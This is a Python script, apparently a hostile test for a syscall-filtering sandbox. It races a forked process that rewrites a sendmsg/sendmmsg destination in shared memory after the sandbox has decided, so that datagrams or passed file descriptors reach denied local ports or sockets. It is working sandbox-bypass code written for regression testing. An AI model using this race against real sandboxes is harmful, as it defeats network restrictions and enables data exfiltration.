"""Threat: a send whose destination another process sharing the page
rewrites after the sandbox decided, where the answer used to be "continue" and the kernel
read the message again:

  name    a UDP sendmsg decided with no address (namelen 0: nothing to
          decide), the other writing in the denied port's address;
  rights  a unix datagram sendmsg carrying an fd (SCM_RIGHTS), its path
          flipped between an allowed name where no socket is (the send
          fails) and a denied socket;
  mmsg    the same as a one-message sendmmsg without ancillary data.

Usage: race_send.py name ALLOWED_PORT DENIED_PORT ROUNDS   (127.0.0.1)
       race_send.py rights|mmsg ABSENT_PATH DENIED_PATH ROUNDS
Prints "tried: N" and "sent: N": sends the kernel carried out, each to the
denied port or socket (the other state fails); for name first "allowed:
..." (a control datagram).
"""

import ctypes
import mmap
import os
import signal
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _hostile import report

DONE = 42
SCM_RIGHTS = 1
MSG_DONTWAIT = 0x40  # a full receiver's queue fails the send instead of blocking
libc = ctypes.CDLL(None, use_errno=True)


class Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("len", ctypes.c_size_t))


class MsgHdr(ctypes.Structure):
    _fields_ = (
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.POINTER(Iovec)),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class MMsgHdr(ctypes.Structure):
    _fields_ = (("hdr", MsgHdr), ("len", ctypes.c_uint))


def sockaddr_in(port):
    head = struct.pack("=H", socket.AF_INET) + struct.pack("!H", port)
    return head + socket.inet_aton("127.0.0.1") + bytes(8)


def sockaddr_un(path):
    raw = struct.pack("=H", socket.AF_UNIX) + os.fsencode(path)
    return raw + bytes(110 - len(raw))


variant, allowed, denied, rounds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
# The message lives in a shared page that a forked process rewrites: a
# thread of ours would wait for the GIL while the send runs, a process
# does not (ptrace mode refuses arguments in such a page).
page = mmap.mmap(-1, 4096)
mm = MMsgHdr.from_buffer(page, 0)
msg = mm.hdr
iov = Iovec.from_buffer(page, 128)
iov.base = ctypes.addressof(ctypes.c_char.from_buffer(page, 192))
iov.len = 11
page[192:203] = b"exfiltrated"
msg.iov = ctypes.pointer(iov)
msg.iovlen = 1
name_at = ctypes.addressof(ctypes.c_char.from_buffer(page, 256))
if variant == "name":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    report("allowed", lambda: s.sendto(b"control", ("127.0.0.1", int(allowed))))
    page[256:272] = sockaddr_in(int(denied))
    msg.name = name_at
    where, states = MsgHdr.namelen.offset, [struct.pack("=I", 0), struct.pack("=I", 16)]
else:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    first, second = sockaddr_un(allowed), sockaddr_un(denied)
    page[256 : 256 + len(first)] = first
    msg.name, msg.namelen = name_at, len(first)
    where, states = 256, [second, first]
    if variant == "rights":
        cmsg = struct.pack("=QiiI", 20, socket.SOL_SOCKET, SCM_RIGHTS, 0) + bytes(4)
        page[512 : 512 + len(cmsg)] = cmsg
        msg.control = ctypes.addressof(ctypes.c_char.from_buffer(page, 512))
        msg.controllen = len(cmsg)
size = len(states[0])
ready_r, ready_w = os.pipe()
flipper = os.fork()
if flipper == 0:
    os.write(ready_w, b"x")
    i = 0
    while True:
        page[where : where + size] = states[i & 1]
        i += 1
os.read(ready_r, 1)
sent = 0
for _ in range(rounds):
    # Only while the flipper runs (on a busy host it may wait for a CPU):
    # a send without the sandbox takes microseconds.
    seen = page[where : where + size]
    while page[where : where + size] == seen:
        pass
    if variant == "mmsg":
        n = libc.sendmmsg(s.fileno(), ctypes.byref(mm), 1, MSG_DONTWAIT)
    else:
        n = libc.sendmsg(s.fileno(), ctypes.byref(msg), MSG_DONTWAIT)
    sent += n > 0
os.kill(flipper, signal.SIGKILL)
os.waitpid(flipper, 0)
print(f"tried: {rounds}", flush=True)
print(f"sent: {sent}", flush=True)
sys.exit(DONE)
